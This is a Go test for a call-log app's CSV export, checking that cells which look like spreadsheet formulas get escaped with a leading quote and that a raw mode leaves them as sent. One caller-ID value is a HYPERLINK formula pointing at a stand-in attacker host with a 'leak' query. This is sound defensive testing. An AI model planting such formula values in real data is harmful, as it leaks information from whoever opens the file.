package export

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/callscope/callscope/tui/common"
	"github.com/callscope/callscope/tui/theme"
)

// The app's export writes the CSV a spreadsheet can open safely; with Options.CSVRaw (--csv-raw) the cells
// are as the PBX sent them.
func TestExportNeutralisesFormulas(t *testing.T) {
	rows := calls(3)
	rows[0].CallerID = `=HYPERLINK("http://evil.invalid/?leak")`
	rows[1].CallerID = "+27 82 123 4567"
	rows[2].FriendlyName = "-2+3"
	for _, tc := range []struct {
		raw  bool
		want [3]string // caller_id of rows 0 and 1, friendly_name of row 2
	}{
		{false, [3]string{`'=HYPERLINK("http://evil.invalid/?leak")`, "+27 82 123 4567", "'-2+3"}},
		{true, [3]string{`=HYPERLINK("http://evil.invalid/?leak")`, "+27 82 123 4567", "-2+3"}},
	} {
		ctx := common.NewContext(theme.New(true, false), nil, nil)
		m := New(ctx, Options{Dir: t.TempDir(), CSVRaw: tc.raw})
		m.SetSize(80, 24)
		drive(t, m, m.Update(common.ExportRequest{Rows: rows}))
		path := filepath.Join(m.opts.Dir, "out.csv")
		m.Update(press("ctrl+u"))
		typeText(m, path)
		drive(t, m, m.Update(press("enter")))
		if m.State() != Done || m.Err() != nil {
			t.Fatalf("raw %v: state %v err %v", tc.raw, m.State(), m.Err())
		}
		got := readCSV(t, path)
		if c := [3]string{got[1][6], got[2][6], got[3][4]}; c != tc.want {
			t.Errorf("raw %v: cells %q, want %q", tc.raw, c, tc.want)
		}
		if ents, _ := os.ReadDir(m.opts.Dir); len(ents) != 1 {
			t.Errorf("files beside the CSV: %v", ents)
		}
	}
}
